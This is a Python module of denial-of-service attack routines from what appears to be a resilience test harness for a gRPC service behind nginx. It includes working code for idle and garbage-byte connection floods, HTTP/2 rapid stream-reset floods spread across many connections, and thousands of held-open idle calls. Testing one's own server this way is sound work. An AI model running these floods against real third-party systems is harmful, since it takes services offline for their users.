"""Connections and streams that are opened and reset, or stay open and send nothing."""

from __future__ import annotations

import asyncio
import random
import time

from grpc_health.v1 import health_pb2, health_pb2_grpc

from http2_frames import PING, Connection, call, frame, reset

from ..attack import SERVICE, Seen, Target, attack

BATCH = 200
BATCHES, WATCHES, HEADERS = 2300, 1000, 1500
OTHER_SOURCE = "127.0.0.2"


@attack("silent-connections", "E1")
async def say_nothing(target: Target, seen: Seen) -> None:
    """Open hundreds of connections that send nothing, and some that send invalid bytes."""
    host, _, port = target.address.rpartition(":")
    rng = random.Random(1)
    writers = []
    for number in range(400):
        try:
            _, writer = await asyncio.open_connection(host, int(port))
        except OSError:
            seen["not connected"] += 1
            continue
        writers.append(writer)
        if number % 4 == 0:
            writer.write(rng.randbytes(2000))
        seen["connected"] += 1
    await asyncio.sleep(target.seconds)
    for writer in writers:
        writer.close()


async def _reset_streams(
    connection: Connection, metadata: tuple[tuple[str, str], ...], seen: Seen, *, streams: int, end: float
) -> None:
    """Open and reset streams in one packet, and send pings."""
    head, tail = call(0, f"{SERVICE}Generate", metadata), reset(0)
    before, between, after = head[:5], head[9:] + tail[:5], tail[9:]
    for first in range(1, 2 * streams, 2 * BATCH):
        numbers = [at.to_bytes(4) for at in range(first, first + 2 * BATCH, 2)]
        data = b"".join(before + at + between + at + after for at in numbers)
        await connection.send(data + frame(PING, 0, 0, bytes(8)))
        seen["streams reset"] += BATCH
        await asyncio.sleep(0)
        if connection.is_closed or time.monotonic() > end:
            return


@attack("raw-resets", "y03")
async def reset_on_two_connections(target: Target, seen: Seen) -> None:
    """Two connections, with and without a token: the proxy limits their number (deploy/nginx)."""
    end = time.monotonic() + target.seconds

    async def flood(metadata: tuple[tuple[str, str], ...]) -> None:
        connection = await Connection.open(target.address)
        await _reset_streams(connection, metadata, seen, streams=60_000, end=end)
        await asyncio.sleep(max(0.0, end - time.monotonic()))
        await connection.close()

    await asyncio.gather(flood(()), flood(target.metadata))


@attack("many-connections", "y03", setup="nginx")
async def reset_on_many_connections(target: Target, seen: Seen) -> None:
    end = time.monotonic() + target.seconds

    async def flood(metadata: tuple[tuple[str, str], ...]) -> None:
        while time.monotonic() < end:
            try:
                connection = await Connection.open(target.address, source=OTHER_SOURCE)
            except OSError:
                seen["not connected"] += 1
                await asyncio.sleep(0.1)
                continue
            seen["connections"] += 1
            await _reset_streams(connection, metadata, seen, streams=500_000, end=end)
            await connection.close()

    await asyncio.gather(*(flood(target.metadata if at % 2 else ()) for at in range(40)))


@attack("idle-calls", "y04")
async def call_and_wait(target: Target, seen: Seen) -> None:
    async with target.generation() as first, target.generation() as second, target.channel() as channel:
        batches = [
            (first, second)[number % 2].GenerateMany(metadata=target.metadata) for number in range(BATCHES)
        ]
        health = health_pb2_grpc.HealthStub(channel)
        watches = [health.Watch(health_pb2.HealthCheckRequest()) for _ in range(WATCHES)]
        try:
            connection = await Connection.open(target.address)
        except OSError:  # the server is ending
            seen["not connected"] += 1
            return
        methods = ("Generate", "Tokenize", "Embed")
        await connection.send(
            b"".join(call(2 * at + 1, SERVICE + methods[at % 3], target.metadata) for at in range(HEADERS))
        )
        await asyncio.sleep(target.seconds)
        for each in (*batches, *watches):
            if each.done():
                seen[(await each.code()).name] += 1
            else:
                seen["idle to the end"] += 1
                each.cancel()
        await connection.close()
